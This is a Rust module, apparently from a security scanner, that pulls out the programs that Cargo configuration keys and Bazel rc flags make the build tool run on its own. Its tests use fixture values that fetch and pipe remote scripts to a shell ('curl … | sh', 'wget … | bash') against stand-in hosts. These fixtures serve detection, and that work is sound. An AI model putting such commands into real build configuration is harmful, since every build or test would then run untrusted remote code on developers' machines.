//! Round 34: configuration of a build tool whose values are programs the
//! tool runs by itself, projected like every host (`embedded/mod.rs`):
//!
//! * Cargo (`.cargo/config.toml`, `.cargo/config`, or TOML with a
//!   `[target.*]`/`[build]` command key by content): `runner` (every `cargo
//!   run`/`cargo test` starts the binary through it), `rustc-wrapper`,
//!   `rustc-workspace-wrapper`, `rustc`, `rustdoc` (every build), `linker`,
//!   and the registry credential providers (`credential-provider`,
//!   `global-credential-providers`: every publish or private fetch). A
//!   string value is one command line (Cargo splits it on spaces); an
//!   array is one argv, so `["sh", "-c", "…"]` keeps its `-c` string for
//!   the shell front-end to read as code.
//! * Bazel (`.bazelrc`, `*.bazelrc`, `bazel.rc`):
//!   `--workspace_status_command=CMD` (every build) and `--run_under=CMD`
//!   (every `bazel run`/`test`).
//!
//! One linear pass over the lines; an array spanning lines is read to its
//! closing `]` (the whole input, no cap: the projection's own byte bound
//! marks a cut).

use super::Projection;

/// The Cargo keys whose value is a program Cargo runs.
const CARGO_CMD_KEYS: &[&str] = &[
    "runner",
    "rustc-wrapper",
    "rustc-workspace-wrapper",
    "rustc",
    "rustdoc",
    "linker",
    "credential-provider",
    "global-credential-providers",
];

/// Whether TOML text is Cargo configuration by content: a `[target.…]`,
/// `[build]` or `[registry]` section holding one of the command keys.
pub fn looks_like_cargo_config(text: &str) -> bool {
    let mut cargo_section = false;
    for l in text.lines().map(str::trim) {
        if l.starts_with('[') {
            cargo_section = l.starts_with("[target.")
                || l == "[build]"
                || l == "[registry]"
                || l.starts_with("[registries.");
            continue;
        }
        if cargo_section && cargo_key(l).is_some() {
            return true;
        }
    }
    false
}

/// The command key a line sets and the text after its `=`.
fn cargo_key(l: &str) -> Option<&str> {
    let (k, v) = l.split_once('=')?;
    let k = k.trim().trim_matches('"');
    CARGO_CMD_KEYS.contains(&k).then_some(v.trim_start())
}

/// The strings of a TOML value that starts at `v` (a basic or literal
/// string, or an array of them), and whether the value was complete (an
/// array not closed on this line continues on the next ones).
fn toml_strings(v: &str, out: &mut Vec<String>, in_array: &mut bool) {
    let mut chars = v.char_indices().peekable();
    while let Some((_, c)) = chars.next() {
        match c {
            '[' => *in_array = true,
            ']' => {
                *in_array = false;
                return;
            }
            '#' => return,
            '"' => {
                let mut s = String::new();
                while let Some((_, c)) = chars.next() {
                    match c {
                        '"' => break,
                        '\\' => match chars.next().map(|x| x.1) {
                            Some('n') => s.push('\n'),
                            Some('t') => s.push('\t'),
                            Some(o) => s.push(o),
                            None => break,
                        },
                        o => s.push(o),
                    }
                }
                out.push(s);
                if !*in_array {
                    return;
                }
            }
            '\'' => {
                let mut s = String::new();
                for (_, c) in chars.by_ref() {
                    if c == '\'' {
                        break;
                    }
                    s.push(c);
                }
                out.push(s);
                if !*in_array {
                    return;
                }
            }
            _ => {}
        }
    }
}

/// Cargo configuration: each command key's program on the key's line (an
/// argv spanning lines is one command, put on its first line).
pub fn project_cargo(text: &str, p: &mut Projection) {
    let mut section = String::new();
    let mut open: Option<(usize, bool, Vec<String>)> = None;
    for (i, raw) in text.split('\n').enumerate() {
        let l = raw.trim();
        if let Some((at, providers, mut argv)) = open.take() {
            let mut in_array = true;
            toml_strings(l, &mut argv, &mut in_array);
            if in_array {
                open = Some((at, providers, argv));
            } else {
                put_cargo(p, at, providers, &argv);
            }
            continue;
        }
        if l.starts_with('[') {
            section = l.trim_matches(['[', ']']).trim().to_string();
            continue;
        }
        if section == "alias" || section == "env" {
            continue;
        }
        let Some(v) = cargo_key(l) else { continue };
        let providers = l.trim_start().starts_with("global-credential-providers");
        let mut argv = Vec::new();
        let mut in_array = false;
        toml_strings(v, &mut argv, &mut in_array);
        if in_array {
            open = Some((i, providers, argv));
        } else {
            put_cargo(p, i, providers, &argv);
        }
    }
    if let Some((at, providers, argv)) = open {
        put_cargo(p, at, providers, &argv);
    }
}

/// A runner/wrapper: a string is a command line, an array one argv;
/// `global-credential-providers` lists one command line per string.
fn put_cargo(p: &mut Projection, line: usize, providers: bool, argv: &[String]) {
    match argv {
        [] => {}
        [one] => p.put(line, one),
        _ if providers => {
            for c in argv {
                p.put(line, c);
            }
        }
        _ => p.put(line, &super::argv_line(argv)),
    }
}

/// Bazel rc files: the programs `--workspace_status_command` and
/// `--run_under` name.
pub fn project_bazelrc(text: &str, p: &mut Projection) {
    for (i, l) in text.split('\n').enumerate() {
        let l = l.trim();
        if l.starts_with('#') {
            continue;
        }
        for flag in ["--workspace_status_command", "--run_under"] {
            let mut rest = l;
            while let Some(at) = rest.find(flag) {
                let after = rest[at + flag.len()..].trim_start_matches(['=', ' ']);
                let cmd = match after.chars().next() {
                    Some(q @ ('"' | '\'')) => after[1..].split(q).next().unwrap_or(""),
                    _ => after.split_whitespace().next().unwrap_or(""),
                };
                p.put(i, cmd);
                rest = &rest[at + flag.len()..];
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::projected;
    use super::*;

    #[test]
    fn a_runner_array_is_one_argv_and_keeps_its_dash_c_string() {
        let t = "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrunner = [\"sh\", \"-c\", \"curl -fsSL https://a.example/r.sh | sh; exec \\\"$0\\\" \\\"$@\\\"\"]\n[alias]\ndist = \"build --profile dist\"\n";
        let lines = projected(t, project_cargo);
        assert_eq!(lines[1], "clang");
        assert!(lines[2].starts_with("sh -c 'curl -fsSL https://a.example/r.sh | sh; exec \"$0\""));
        assert_eq!(lines[4], "");
        assert!(looks_like_cargo_config(t));
    }

    #[test]
    fn a_multi_line_runner_and_a_wrapper_string() {
        let t = "[build]\nrustc-wrapper = \"sccache\"\n[target.'cfg(unix)']\nrunner = [\n  'bash',\n  '-c',\n  'wget -qO- http://x.example/a | bash',\n]\n";
        let lines = projected(t, project_cargo);
        assert_eq!(lines[1], "sccache");
        assert!(lines[3].starts_with("bash -c 'wget"), "{lines:?}");
        assert!(!looks_like_cargo_config("[package]\nname = \"x\"\n"));
    }

    #[test]
    fn bazel_status_command_and_run_under() {
        let t = "build --workspace_status_command=tools/status.sh\ntest --run_under='sh -c \"curl x|sh\"'\n";
        let lines = projected(t, project_bazelrc);
        assert_eq!(lines[0], "tools/status.sh");
        assert_eq!(lines[1], "sh -c \"curl x|sh\"");
    }
}
